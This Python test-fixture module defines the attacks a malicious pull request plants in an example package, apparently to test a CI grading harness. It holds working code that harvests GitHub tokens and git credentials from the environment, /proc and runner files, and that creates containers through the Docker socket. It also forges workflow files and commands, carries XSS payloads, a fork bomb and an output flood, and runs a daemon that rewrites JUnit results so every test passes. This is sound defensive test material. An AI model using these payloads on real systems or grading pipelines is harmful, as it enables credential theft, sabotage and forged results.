"""The attacks of tests/container/test_malicious_pr.py: the code a malicious pull request
adds to examples/bugfix (as ``src/slugify/_attack.py``, which the package imports, so it
runs when the tests collect), the files it edits, and what it prints. ``{marker}`` in
them is the case's marker."""

from __future__ import annotations

# The module every attack adds: the package imports it, so it runs at collection in the
# test command. At exit it prints what it stole (a token, an extraheader decoded), what
# it tried, and its mark; the report's output tail keeps the last 40 lines.
PRELUDE = '''\
"""An attack of tests/container/test_malicious_pr.py."""
import atexit, base64, glob, os, re, socket, subprocess, sys

MARKER = "{marker}"
_SECRET = re.compile(rb"gh[opsu]_[0-9A-Za-z]{8,}|basic [0-9A-Za-z+/=]{16,}")
FOUND = {}
TRIED = {"read": 0, "got": 0, "wrote": 0}


def loot(source, data):
    if isinstance(data, str):
        data = data.encode(errors="replace")
    for hit in _SECRET.findall(data or b""):
        text = hit.decode()
        if text.startswith("basic "):
            try:
                text += " = " + base64.b64decode(text[6:]).decode(errors="replace")
            except ValueError:
                pass
        FOUND.setdefault(text, source)


def read(path):
    TRIED["read"] += 1
    try:
        with open(path, "rb") as file:
            data = file.read(1 << 20)
    except OSError:
        return None
    TRIED["got"] += 1
    loot(path, data)
    return data


def append(path, text):
    try:
        with open(path, "a") as file:
            file.write(text)
    except OSError:
        return False
    TRIED["wrote"] += 1
    return True


@atexit.register
def _tell():
    for text, source in list(FOUND.items())[:30]:
        print(f"LOOT {source}: {text}")
    tried = " ".join(f"{k}={v}" for k, v in TRIED.items())
    print(f"ATTACK-RAN-{MARKER} {tried}", flush=True)

'''
INIT = """from slugify import _attack  # noqa: F401
from slugify.core import slugify

__all__ = ["slugify"]
"""

ENVIRONMENT = """
ENV = "\\n".join(f"{k}={v}" for k, v in os.environ.items())
loot("os.environ", ENV)
print(ENV)
TRIED["variables"] = len(os.environ)
RUNNERS = ("GITHUB_", "INPUT_", "RUNNER_", "ACTIONS_")
TRIED["runner_variables"] = sum(1 for name in os.environ if name.startswith(RUNNERS))
for place in ("environ.txt", f"/github/workspace/loot-{MARKER}.txt", os.path.expanduser("~/env")):
    append(place, ENV)
atexit.register(print, "ENVIRON " + " ".join(f"{k}={v}" for k, v in os.environ.items()))
"""

PROC = """
pids = glob.glob("/proc/[0-9]*")
TRIED["pids"] = len(pids)
for entry in pids:
    for name in ("environ", "cmdline"):
        read(f"{entry}/{name}")
"""

GIT_CONFIG = """
places = ["/github/workspace/.git/config", ".git/config", "../.git/config"]
places += glob.glob("/github/workspace/.git/**", recursive=True)
places += glob.glob("/github/runner_temp/**", recursive=True)
places += glob.glob("/github/home/**", recursive=True)
where = os.getcwd()
while where != "/":
    places.append(os.path.join(where, ".git", "config"))
    where = os.path.dirname(where)
for path in places:
    if os.path.isfile(path):
        read(path)
for directory in ("/github/workspace", "."):
    done = subprocess.run(
        ["git", "-c", "safe.directory=*", "-C", directory, "config", "--get-regexp", "."],
        capture_output=True,
    )
    loot(f"git config in {directory}", done.stdout + done.stderr)
TRIED["config_readable"] = int(read("/github/workspace/.git/config") is not None)
"""

# The Docker socket, as the runner mounts it: whether it is there (a socket), whether
# connecting worked, and the errno when it did not (EACCES, not ENOENT).
DOCKER = r"""
def docker(method, path, body=b""):
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(5)
    try:
        client.connect("/var/run/docker.sock")
    except OSError as error:
        TRIED["docker_errno"] = error.errno or 0
        return None, f"no connection: {error}"
    TRIED["docker_connected"] = TRIED.get("docker_connected", 0) + 1
    head = f"{method} {path} HTTP/1.0\r\nHost: docker\r\nContent-Type: application/json\r\n"
    client.sendall(f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body)
    answer = b""
    while True:
        chunk = client.recv(65536)
        if not chunk:
            break
        answer += chunk
    loot(f"docker {path}", answer)
    return answer, answer[:200]


import stat as _stat
try:
    TRIED["docker_socket"] = int(_stat.S_ISSOCK(os.stat("/var/run/docker.sock").st_mode))
except OSError:
    TRIED["docker_socket"] = 0
TRIED["docker_connected"] = 0
listed, said = docker("GET", "/containers/json")
atexit.register(print, f"DOCKER GET /containers/json: {said}")
if listed is not None:
    import json as _json
    for found in _json.loads(listed.split(b"\r\n\r\n", 1)[1] or b"[]"):
        docker("GET", f"/containers/{found['Id']}/json")
    body = _json.dumps({"Image": "repogym-base:bookworm", "Cmd": ["sleep", "600"],
                        "Labels": {"repogym-attack": MARKER}}).encode()
    made, said = docker("POST", "/containers/create", body)
    atexit.register(print, f"DOCKER POST /containers/create: {said}")
"""

# Every file under RUNNER_TEMP and the workspace's git directory, read: the credentials
# actions/checkout persisted are in one of them (.git/config, or v6's
# git-credentials-<uuid>.config). It counts the files, those named as v6 names its
# file, and those it read that hold an extraheader.
WALK = """
TRIED.update(files=0, v6_files=0, headers_got=0, refused=0)


def refused(error):
    TRIED["refused"] += 1


for top in ("/github/runner_temp", "/github/workspace/.git"):
    for directory, _, names in os.walk(top, onerror=refused):
        for name in names:
            path = os.path.join(directory, name)
            if os.path.islink(path) or not os.path.isfile(path):
                continue
            TRIED["files"] += 1
            if name.startswith("git-credentials-") and name.endswith(".config"):
                TRIED["v6_files"] += 1
            data = read(path)
            if data is not None and b"extraheader" in data.lower():
                TRIED["headers_got"] += 1
"""

FILE_COMMANDS = """
FORGED = {
    "GITHUB_OUTPUT": f"passed=true\\nscore=1\\nsummary<<EOF\\nPASS forged {MARKER}\\nEOF\\n",
    "GITHUB_ENV": f"LD_PRELOAD=/tmp/{MARKER}.so\\nFORGED_{MARKER}=1\\n",
    "GITHUB_PATH": f"/tmp/{MARKER}\\n",
    "GITHUB_STEP_SUMMARY": f"# PASS forged {MARKER}\\n",
    "GITHUB_STATE": f"forged_{MARKER}=1\\n",
}
targets = {name: os.environ.get(name) for name in FORGED}
TRIED["variables_found"] = sum(1 for path in targets.values() if path)
for name, path in targets.items():
    if path:
        append(path, FORGED[name])
patterns = ["/github/file_commands/*", "/github/home/*", "/github/home/.*", "/github/workflow/*",
            "/github/runner_temp/*", "/github/runner_temp/*/*"]
files = sorted({p for pattern in patterns for p in glob.glob(pattern) if os.path.isfile(p)})
TRIED["files_found"] = len(files)
for path in files:
    append(path, "\\n".join(FORGED.values()))
for directory in ("file_commands", "home", "workflow", "runner_temp"):
    append(f"/github/{directory}/loot-{MARKER}", "planted\\n")
"""

WORKFLOW_LINES = (
    "::add-mask::{marker}",
    "::error::{marker} forged error",
    "::set-output name=passed::true",
    "::stop-commands::x",
    "::warning file=src/slugify/core.py,line=1::{marker} forged warning",
    "::group::{marker} forged group",
    "::endgroup::",
    "::x::",
    "::notice title={marker}::forged notice",
)
WORKFLOW_COMMANDS = f"""
LINES = {list(WORKFLOW_LINES)!r}
for line in LINES:
    print(line.replace("{{marker}}", MARKER))
    sys.stderr.write(line.replace("{{marker}}", MARKER) + "\\n")


def _again():
    for line in LINES:
        print(line.replace("{{marker}}", MARKER), flush=True)


atexit.register(_again)
"""

PAYLOAD = (
    "@octo-org/team @someone #123 </details> "
    '<!-- repogym-action:comment check="repogym" run="x" --> '
    "![x](http://127.0.0.1/x.png) <img src=x onerror=alert(1)> <script>alert(1)</script>"
)
MARKDOWN = f"""
PAYLOAD = {PAYLOAD!r}
atexit.register(print, PAYLOAD)
"""
MARKDOWN_CORE = f'''"""URL slugs from titles."""

PAYLOAD = {PAYLOAD!r}


def slugify(title: str) -> str:
    raise AssertionError(PAYLOAD)
'''
MARKDOWN_TEST = f"""import pytest

PAYLOAD = {PAYLOAD!r}


@pytest.mark.parametrize("case", [1], ids=[PAYLOAD])
def test_payload(case):
    assert case == 2, PAYLOAD
"""

SYMLINKS = """
for path in ("src/slugify/environ.txt", "src/slugify/gitconfig", "tests/test_environ.py"):
    read(path)
"""

FLOOD = """
def _flood():
    chunk = (b"A" * 1023 + b"\\n") * 1024
    for _ in range(1024):
        os.write(1, chunk)


atexit.register(_flood)
"""

# dash gives up at the first fork that fails: start it again, for ever.
FORK_BOMB = """
while True:
    try:
        subprocess.run(["/bin/sh", "-c", "b() { b | b & }; b", MARKER], stderr=subprocess.DEVNULL)
    except OSError:
        pass
"""

ENDLESS = """
while True:
    pass
"""

# The daemon waits for pytest to exit, then makes the report say every test passed and
# rewrites the tree and the workspace, again and again for a minute.
DAEMON = r'''
DAEMON = """
import os, re, sys, time
marker, pytest_pid, junit = sys.argv[1], int(sys.argv[2]), sys.argv[3]
deadline = time.monotonic() + 60
while time.monotonic() < deadline:
    try:
        os.kill(pytest_pid, 0)
    except ProcessLookupError:
        break
    time.sleep(0.005)
while time.monotonic() < deadline:
    try:
        with open(junit) as file:
            xml = file.read()
        xml = re.sub(r"<failure.*?</failure>", "", xml, flags=re.S)
        xml = re.sub(r'failures="\d+"', 'failures="0"', xml)
        with open(junit, "w") as file:
            file.write(xml)
    except OSError:
        pass
    for path in ("src/slugify/core.py", f"/github/workspace/loot-{marker}"):
        try:
            with open(path, "w") as file:
                file.write("def slugify(title):\n    return 'forged'\n")
        except OSError:
            pass
    time.sleep(0.01)
"""
junit = next((a.split("=", 1)[1] for a in sys.argv if a.startswith("--junitxml=")), "")
pytest_pid = os.getpid()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", DAEMON, MARKER, str(pytest_pid), junit])
    os._exit(0)
os.wait()
TRIED["daemon"] = 1
'''

FORGED_TASK = """version: 1
type: bugfix
tests:
  command: python -m pytest -q -p no:cacheprovider --junitxml={junit}
  fail_to_pass: []
  pass_to_pass: []
grading:
  weights: {tests: 1.0}
  pass_threshold: 0.0
"""
WORKFLOW = """name: grade
on: pull_request
permissions: write-all
jobs:
  grade:
    runs-on: ubuntu-latest
    steps:
      - run: echo forged
"""
